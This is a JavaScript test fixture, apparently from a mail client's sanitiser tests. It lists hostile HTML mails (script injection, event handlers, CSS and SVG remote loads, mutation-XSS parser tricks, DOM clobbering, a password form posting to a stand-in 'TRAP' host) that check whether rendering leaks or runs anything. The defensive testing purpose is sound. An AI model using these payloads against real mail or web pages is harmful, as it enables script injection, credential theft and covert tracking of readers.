// Mails that want to run something, fetch something, or lead somewhere. `TRAP` becomes the address of a server that counts, and `RUN` a
// script that tells the page and asks the server.

const RUN = "top.postMessage('ran','*');parent.postMessage('ran','*');fetch('TRAP/ran');new Image().src='TRAP/ran';";
const RUN_IN_ATTRIBUTE = RUN.replaceAll("'", '&#39;');

export const hostile = {
  script: `<script>${RUN}</script><script src="TRAP/script.js"></script><SCRIPT/SRC="TRAP/case.js"></SCRIPT>`,
  'script in odd places': `<svg><script>${RUN}</script></svg><math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math><table><script>${RUN}</script></table><noscript><p title="</noscript><img src=x onerror=${RUN_IN_ATTRIBUTE}>"></noscript>`,
  'event handlers': `<img src="x" onerror="${RUN_IN_ATTRIBUTE}"><body onload="${RUN_IN_ATTRIBUTE}"><details open ontoggle="${RUN_IN_ATTRIBUTE}"><summary>x</summary></details><div style="animation:a 1s" onanimationstart="${RUN_IN_ATTRIBUTE}">x</div><input autofocus onfocus="${RUN_IN_ATTRIBUTE}"><video onloadstart="${RUN_IN_ATTRIBUTE}"><source src="TRAP/v"></video><marquee onstart="${RUN_IN_ATTRIBUTE}">x</marquee>`,
  pictures: '<img src="TRAP/a.gif"><img srcset="TRAP/b.gif 1x, TRAP/c.gif 2x"><picture><source srcset="TRAP/d.gif"><img src="TRAP/e.gif"></picture><img src=" TRAP/f.gif" loading="eager"><input type="image" src="TRAP/g.gif"><img src="//TRAPHOST/h.gif"><img lowsrc="TRAP/i.gif" dynsrc="TRAP/j.gif">',
  backgrounds: '<table background="TRAP/t.gif"><tr background="TRAP/tr.gif"><td background="TRAP/td.gif">x</td></tr></table><body background="TRAP/body.gif">x',
  'css url': '<style>body{background:url(TRAP/1.gif)} p{background-image:url("TRAP/2.gif");list-style:url(TRAP/3.gif);cursor:url(TRAP/4.cur),auto;border-image:url(TRAP/5.gif) 1} p::before{content:url(TRAP/6.gif)} @font-face{font-family:f;src:url(TRAP/7.woff)} p{font-family:f;mask:url(TRAP/8.svg#m);filter:url(TRAP/9.svg#f);shape-outside:url(TRAP/10.gif);background:image-set("TRAP/11.gif" 1x)}</style><p>x</p>',
  'css url in attributes': '<p style="background:url(TRAP/1.gif)">x</p><p style="background:u\\72l(TRAP/2.gif)">x</p><p style="--a:url(TRAP/3.gif);background:var(--a)">x</p><p style="background-image:image-set(url(TRAP/4.gif) 1x)">x</p><p style="background:/**/url(\'TRAP/5.gif\')">x</p><li style="list-style-image:url(TRAP/6.gif)">x</li>',
  'css import': '<style>@import url(TRAP/1.css);@import "TRAP/2.css";@media all{p{background:url(TRAP/3.gif)}}@supports(display:block){p{background:url(TRAP/4.gif)}}@layer a{p{background:url(TRAP/5.gif)}}@namespace url(TRAP/6)</style><style><!-- @import "TRAP/7.css"; --></style><p>x</p>',
  'css that ends the sheet': `<style>p{font-family:"</style><script>${RUN}</script>"}</style><style>p[title="</style><img src=x onerror=${RUN_IN_ATTRIBUTE}>"]{color:red}</style><style>/*</style><img src="TRAP/x.gif">*/</style><p>x</p>`,
  svg: `<svg onload="${RUN_IN_ATTRIBUTE}"><image href="TRAP/1.png" xlink:href="TRAP/2.png"/><use href="TRAP/3.svg#x"/><foreignObject><img src="TRAP/4.gif"></foreignObject><animate onbegin="${RUN_IN_ATTRIBUTE}" attributeName="x" dur="1s"/><a href="javascript:${RUN_IN_ATTRIBUTE}"><text>x</text></a><feImage href="TRAP/5.png"/></svg>`,
  form: '<form action="TRAP/form" method="post" target="_top"><input name="password" type="password" autofocus><button formaction="TRAP/button">x</button></form><isindex action="TRAP/isindex"><button form="x" formaction="TRAP/b">y</button>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=TRAP/refresh"><meta http-equiv="refresh" content="0;url=javascript:top.postMessage(1)"><meta http-equiv="set-cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="img-src *"><img src="TRAP/after.gif">',
  base: '<base href="TRAP/" target="_top"><img src="relative.gif"><a href="x" ping="TRAP/ping">x</a><link rel="stylesheet" href="sheet.css">',
  links: '<link rel="stylesheet" href="TRAP/1.css"><link rel="prefetch" href="TRAP/2"><link rel="preload" as="image" href="TRAP/3.gif"><link rel="prerender" href="TRAP/4"><link rel="icon" href="TRAP/5.ico"><link rel="modulepreload" href="TRAP/6.js"><link rel="manifest" href="TRAP/7.json"><link rel="import" href="TRAP/8.html">',
  'links that only connect': '<link rel="preconnect" href="TRAP"><link rel="preconnect" href="TRAP" crossorigin><link rel="dns-prefetch" href="TRAP">',
  frames: `<iframe src="TRAP/1"></iframe><iframe srcdoc="<script>${RUN_IN_ATTRIBUTE}</script><img src=TRAP/2.gif>"></iframe><frameset><frame src="TRAP/3"></frameset><object data="TRAP/4"><img src="TRAP/5.gif"></object><embed src="TRAP/6"><applet code="x" archive="TRAP/7"></applet><portal src="TRAP/8"></portal><fencedframe src="TRAP/9"></fencedframe>`,
  media: '<video src="TRAP/1.mp4" poster="TRAP/2.gif" autoplay></video><audio src="TRAP/3.mp3" autoplay></audio><video><source src="TRAP/4.mp4"><track src="TRAP/5.vtt" default></video><bgsound src="TRAP/6.wav">',
  'other targets': `<a href="javascript:${RUN_IN_ATTRIBUTE}" target="_self">a</a><a href="data:text/html,<script>${RUN_IN_ATTRIBUTE}</script>" target="_top">b</a><a href="TRAP/top" target="_top">c</a><a href="TRAP/parent" target="_parent">d</a><a href="&#9;java&#10;script:${RUN_IN_ATTRIBUTE}">e</a><area href="TRAP/area" shape="default"><a href="#/keys">f</a><a href="/">g</a><a href="blob:x">h</a>`,
  clobbering: '<form id="sanitise"><input name="attributes"><input name="parentNode"></form><img name="body"><a id="location" href="x"></a><a id="location" name="href" href="TRAP/clobber"></a><div id="mail-query">x</div>',
  'mutation by parsing': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN_IN_ATTRIBUTE}&gt;"></mglyph></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=${RUN_IN_ATTRIBUTE}>"></svg><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN_IN_ATTRIBUTE} src=1>"></svg></math>`,
  'custom elements and templates': `<template><script>${RUN}</script></template><template shadowrootmode="open"><img src="TRAP/1.gif" onerror="${RUN_IN_ATTRIBUTE}"></template><gyre-app></gyre-app><x-y onclick="x" src="TRAP/2"></x-y><slot></slot><xml src="TRAP/3"></xml><xss style="behavior:url(TRAP/4)">x</xss>`,
  'over everything': '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div><div style="position:absolute;top:-900px">y</div><style>*{position:fixed!important}</style>',
};

/** The mail with the addresses of this run. */
export function aimed(html, trap) {
  return html.replaceAll('TRAPHOST', new URL(trap).host).replaceAll('TRAP', trap);
}
